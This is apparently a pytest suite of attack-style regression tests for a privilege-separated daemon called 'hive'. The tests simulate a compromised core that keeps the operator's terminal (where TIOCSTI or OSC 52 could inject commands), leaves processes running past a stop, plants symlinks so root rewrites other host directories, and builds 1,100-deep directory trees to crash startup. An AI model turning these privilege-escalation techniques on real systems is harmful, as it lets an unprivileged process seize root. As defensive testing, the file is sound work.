def test_the_core_holds_no_terminal_of_the_operators(pair: tuple[HiveProcess, HiveProcess]) -> None:
    """The operator runs ``hive up`` in a root shell. The core (unprivileged, its own ids)
    must get no descriptor of that terminal and must not have it as its controlling
    terminal: with it, a compromised core writes terminal controls to root's screen
    whenever it likes (OSC 52 puts a command in the clipboard) and, where TIOCSTI is
    allowed (``dev.tty.legacy_tiocsti=1``, as on this host), types a command into the
    root shell that started it (root). Today the core inherits ``hive up``'s stderr and
    its session."""
    c = HiveProcess(_agents("d16t"))
    proc, out, master = _hive_up_on_a_terminal(c)
    c.proc = proc  # type: ignore[assignment]
    try:
        wait_until(
            lambda: b"hive: ready" in b"".join(out) or proc.poll() is not None,
            60,
            "hive up on a pty",
        )
        assert proc.poll() is None, b"".join(out)[-2000:]
        c.wait_running()
        pid = c.core_pid()
        assert pid is not None
        tty_nr, ttys = _terminal_of(pid)
        caged = {p: _terminal_of(p) for n in c.names for p in c.cage_procs(n)}
        caged = {p: t for p, t in caged.items() if t != (0, [])}
        # nginx's master and its workers (hive-gateway: they parse what the network
        # sends) got the operator's terminal as fd 2 until session 17.
        masters = [p for p in children(proc.pid) if Path(f"/proc/{p}/comm").read_text() == "nginx\n"]
        nginx = masters + [w for m in masters for w in children(m)]
        assert len(nginx) >= 2, nginx
        gateway = {p: _terminal_of(p) for p in nginx}
    finally:
        try:
            _finish([c])
        finally:
            os.close(master)
            c.cleanup()
    assert (tty_nr, ttys) == (0, []), (
        f"the core has the operator's terminal: tty_nr {tty_nr}, fds {ttys}"
    )
    assert all(t == (0, []) for t in gateway.values()), f"nginx has the operator's terminal: {gateway}"



LEFTOVER = r"""
import time
time.sleep(600)
"""


@pytest.mark.attack(
    "privsep.core-misuse", ref="session 16: the core's ids are kept across restarts (core.id)"
)
def test_nothing_the_compromised_core_left_running_survives_hive_up_stop(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """A compromised core forks a process of its own (its own session: no process group
    of `hive up`'s to go with it). `hive up` is stopped: the next core has the same ids
    (core.id), so a process left with them owns it (its /proc files, its descriptors:
    pidfd_getfd of host.sock's listener, its memory), and meanwhile, with the run dir
    still the core's group's, can put a directory where host.sock goes (the next start
    refuses, one line, until someone removes it). Each hive's core ids are its alone
    now: nothing may be left running under them once the hive stopped."""
    h = pair[1]
    uid, gid = h.core_ids
    left = subprocess.Popen([PY, "-I", "-c", LEFTOVER], user=uid, group=gid, extra_groups=[], cwd="/",
                            start_new_session=True, stdin=subprocess.DEVNULL)  # fmt: skip
    planted = h.run_dir / "host.sock"
    try:
        time.sleep(0.3)
        assert left.poll() is None
        h.stop_clean()
        alive = left.poll() is None
        if alive:  # what it does next, as those ids (hive up then refuses: "could not bind the
            # core's sockets in RUN: [Errno 21] Is a directory: 'RUN/host.sock'", every start)
            as_ids(
                (uid, gid),
                "import json,os,sys; os.mkdir(sys.argv[1]); print(json.dumps(1))",
                str(planted),
            )
    finally:
        left.kill()
        left.wait()
        if planted.is_dir():
            planted.rmdir()
    assert not alive, (
        "a process the core left under its ids outlives `hive up`'s stop (and owns the next core)"
    )


@pytest.mark.attack("launcher.readiness", ref="session 16: hive core-id before the first hive up")
def test_hive_core_id_before_the_first_start_does_not_skip_the_adoption(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The docs and ``hive core-id --help`` tell the operator to give a file the core must
    read (the swarm's credentials) to the core's ids with ``chown "$(hive core-id)"``,
    which makes core.id "if the hive never ran". On a hive of the older version that is
    the natural first step of the upgrade; ``hive up`` then takes core.id's presence for
    "adopted already" and never gives the shared user's hive.db, token and secrets to the
    core: the hive can't start (or runs without them)."""
    h = pair[0]
    h.stop_clean()
    luid, _ = _as_before_the_upgrade(h)
    proc = subprocess.run([str(HIVE), "core-id", "--state-dir", str(h.state_dir)], capture_output=True,
                          text=True, timeout=60)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    uid = int(proc.stdout.strip().split(":")[0])
    try:
        h.start()
        started = "ready"
    except AssertionError:
        started = h.log_tail(5)
    owners = {n: (h.state_dir / n).stat().st_uid for n in ("hive.db", "operator.token", "secrets")}
    assert started == "ready", (
        f"hive up does not start after `hive core-id`: {started} (owners {owners})"
    )
    assert owners == dict.fromkeys(owners, uid), f"left to the shared user ({luid}): {owners}"


@pytest.mark.attack(
    "fs.traversal-symlink", ref="session 16: the run dir is the core's group's (1775)"
)
def test_a_link_the_core_leaves_at_run_gateway_gives_root_nothing_to_write(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The run dir is ``root:<core gid> 1775``: the core (or what it left running, which
    outlives `hive up`'s stop: the case above) may add names there. After ``hive reset``
    (which removes ``gateway/``) it puts a symlink at ``gateway``; ``hive up`` then makes
    the gateway's directory through it as root (``gateway.config.write``: mkdir, chown
    root:hive-gateway, chmod 0750, nginx.conf written, all by path): another directory of
    the host gets its owner and mode changed and a file written by root."""
    h = pair[1]
    if h.running:
        h.stop_clean()
    _reset(h)
    victim = h.base / "victim"  # e.g. /etc/nginx: root's, 0755, with an nginx.conf of its own
    victim.mkdir()
    os.chmod(victim, 0o755)
    (victim / "nginx.conf").write_text("the host's own\n")
    before = (os.stat(victim).st_uid, os.stat(victim).st_gid, stat.S_IMODE(os.stat(victim).st_mode))
    link = h.run_dir / "gateway"
    planted = as_ids(h.core_ids, "import json,os,sys\ntry:\n    os.symlink(sys.argv[1], sys.argv[2]); print(json.dumps('planted'))\n"
                     "except OSError as e:\n    print(json.dumps(e.strerror))", str(victim), str(link))  # fmt: skip
    # Fixed: the run dir is root's alone (0755), so the core can't. A link an earlier
    # version's core left there (its run dir was the core's group's) is planted by root
    # here: hive up must refuse it, not follow it.
    assert planted == "Permission denied", planted
    link.symlink_to(victim)
    try:
        try:
            h.start()
            started = "ready"
        except AssertionError:
            started = h.log_tail(3)
        st = os.stat(victim)
        after = (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode))
        conf = (victim / "nginx.conf").read_text()
    finally:
        if h.running:
            h.stop()
        if link.is_symlink():
            link.unlink()
    print(f"start: {started}")
    assert "is not root's: refusing to start" in started, started
    assert (after, conf) == (before, "the host's own\n"), (
        f"root followed the core's link at {link}: {victim} {before} -> {after}, nginx.conf now {conf[:60]!r}"
    )


@pytest.mark.attack(
    "fs.traversal-symlink", ref="session 16: the state dir is the core's group's (1770)"
)
def test_links_the_core_leaves_for_roots_state_entries_after_reset_give_root_nothing(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The same after ``hive reset`` in the state dir (``root:<core gid> 1770``): links at
    ``priv`` and ``agents`` (root's, removed by the reset) to directories of the host.
    ``hive up`` and hive-priv must neither change those directories nor write in them
    (the start may refuse)."""
    h = pair[1]
    if h.running:
        h.stop_clean()
    _reset(h)
    victims = {}
    for n in ("priv", "agents"):
        v = h.base / f"victim-{n}"
        v.mkdir()
        os.chmod(v, 0o755)
        victims[n] = v
        as_ids(h.core_ids, "import json,os,sys; os.symlink(sys.argv[1], sys.argv[2]); print(json.dumps(1))",
               str(v), str(h.state_dir / n))  # fmt: skip
    snap = {
        n: (os.stat(v).st_uid, os.stat(v).st_gid, os.stat(v).st_mode, sorted(os.listdir(v)))
        for n, v in victims.items()
    }
    try:
        try:
            h.start()
            started = "ready"
        except AssertionError:
            started = h.log_tail(2)
        after = {
            n: (os.stat(v).st_uid, os.stat(v).st_gid, os.stat(v).st_mode, sorted(os.listdir(v)))
            for n, v in victims.items()
        }
    finally:
        if h.running:
            h.stop()
        for n in victims:
            if (h.state_dir / n).is_symlink():
                (h.state_dir / n).unlink()
    print(f"start: {started}")
    assert after == snap, f"root followed the core's links: {snap} -> {after}"


@pytest.mark.attack("launcher.readiness", ref="session 16: adopt_legacy_files walks the state dir")
def test_a_deep_tree_in_the_state_dir_does_not_stop_the_upgrade_for_good(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The shared user of the older version (a compromised core before the upgrade)
    leaves a directory tree 1,100 deep in the state dir. The first start under core ids
    walks it (``os.fwalk``, recursive on Python 3.11) and refuses in one line ("move it
    away and start again"), having written core.id. Once the operator has moved it away
    the hive must start with every file of the shared user's adopted: the second start
    takes core.id for "adopted" and never walks again, so whatever the walk had not
    reached (directories listed after the deep one) stays the shared user's. (On the
    diff as first committed the walk ran at every start and raised RecursionError: a
    traceback at every ``hive up``, ``hive reset`` or not.)"""
    h = pair[1]
    if h.running:
        h.stop_clean()
    luid, lgid = _as_before_the_upgrade(h)
    # Directories of the shared user's, and candidates for the deep one: keep a candidate
    # the walk reaches before at least one of them (directory order is the filesystem's).
    for k in range(8):
        d = h.state_dir / f"d16-after-{k}"
        d.mkdir()
        (d / "f").write_text("x")
        for p in (d, d / "f"):
            os.chown(p, luid, lgid)
        (h.state_dir / f"d16-deep-{k}").mkdir()
    order = [n for n in os.listdir(h.state_dir) if n.startswith("d16-")]
    deep = next(n for i, n in enumerate(order) if n.startswith("d16-deep") and any(
        m.startswith("d16-after") for m in order[i + 1:]))  # fmt: skip
    for k in range(8):
        if f"d16-deep-{k}" != deep:
            (h.state_dir / f"d16-deep-{k}").rmdir()
    fd = os.open(h.state_dir / deep, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(1100):
            os.mkdir("d", dir_fd=fd)
            nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.fchown(nfd, luid, lgid)
            os.close(fd)
            fd = nfd
    finally:
        os.close(fd)
    try:
        try:
            h.start()
            first = "ready"
        except AssertionError:
            first = h.log_tail(2)
    finally:
        subprocess.run(
            ["rm", "-rf", str(h.state_dir / deep)], check=True
        )  # as the operator is told to
    print(f"first start: {first}")
    if first != "ready":
        try:
            h.start()
            second = "ready"
        except AssertionError:
            second = h.log_tail(6)
        assert second == "ready", (
            f"after moving the tree away, hive up still does not start: {second}"
        )
    uid = h.core_ids[0]
    owners = {
        n: (h.state_dir / n / "f").stat().st_uid
        for n in os.listdir(h.state_dir)
        if n.startswith("d16-after")
    }
    left = {n: o for n, o in owners.items() if o != uid}
    assert not left, f"left to the shared user after the upgrade (core uid {uid}): {left}"


@pytest.mark.attack(
    "launcher.readiness", ref="session 16: adopt_legacy_files at every start (d2ac3a5)"
)
def test_a_deep_tree_the_core_plants_does_not_stop_every_later_start(
    pair: tuple[HiveProcess, HiveProcess],
) -> None:
    """The (new-ids) core plants a directory tree 1,100 deep in its own ``secrets/``
    (kept by ``hive reset``). The hive must still start after a reset: on the diff as
    first committed (d2ac3a5) ``hive up`` walked the whole state dir at every start while
    the legacy user exists and died with a RecursionError traceback, every time."""
    import pwd

    pwd.getpwnam(LEGACY)  # the walk ran only while the legacy user exists (it does here)
    h = pair[1]
    if h.running:
        h.stop_clean()
    uid, gid = h.core_ids
    plant = r"""
import json, os, sys
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
for _ in range(1100):
    os.mkdir("d", dir_fd=fd)
    nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = nfd
print(json.dumps("planted"))
"""
    top = h.state_dir / "secrets" / "d16-deep"
    top.mkdir()
    os.chown(top, uid, gid)
    try:
        assert as_ids((uid, gid), plant, str(top)) == "planted"  # type: ignore[comparison-overlap]
        _reset(h)
        try:
            h.start()
            started, why = True, ""
        except AssertionError:
            started, why = False, h.log_tail(4)
    finally:
        subprocess.run(["rm", "-rf", str(top)], check=True)
    assert started, f"hive up no longer starts: {why}"
